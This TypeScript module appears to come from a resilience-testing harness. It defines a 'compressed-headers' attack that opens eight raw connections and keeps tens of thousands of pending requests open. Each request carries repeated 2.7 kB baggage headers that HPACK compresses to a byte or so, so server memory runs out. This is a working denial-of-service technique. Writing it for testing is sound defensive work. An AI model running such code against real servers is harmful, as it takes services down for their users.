/**
 * Requests whose trace context is in compressed headers: a value that the dynamic table of the connection holds costs one
 * byte on the wire and kilobytes in the server, for as long as the request waits.
 */
import type { Attack } from "../attack.js";
import { RawCalls } from "../attacker/raw-calls.js";
import { call, METHOD } from "./messages.js";

const CONNECTIONS = 8;
const REQUESTS = 60_000;
/** Calls of one connection that are not answered yet. */
const MAX_OPEN = 240;
/** The table has 4 KiB. A header that is repeated is one value of the call: 8 kB. */
const BAGGAGE = ["baggage", "x".repeat(2_700)] as const;

export const compressedHeaders: Attack = {
  name: "compressed-headers",
  sends: `Dispatch: ${REQUESTS} waiting requests with 8 kB of baggage, compressed by HPACK`,
  async run(attacker) {
    const message = call({ topic: "headers", ttlSeconds: 3_600, waits: true });
    const headers = [BAGGAGE, BAGGAGE, BAGGAGE];
    await Promise.all(
      Array.from({ length: CONNECTIONS }, async () => {
        const connection = attacker.connectRaw();
        await connection.connected();
        const calls = new RawCalls(connection, METHOD.dispatch, { headers });
        for (let i = 0; i < REQUESTS / CONNECTIONS && attacker.goesOn && connection.isOpen; i++) {
          calls.call(message);
          while (i - connection.endedStreams > MAX_OPEN && attacker.goesOn && connection.isOpen)
            await attacker.wait(2);
        }
      }),
    );
    await attacker.wait(1_000);
  },
};
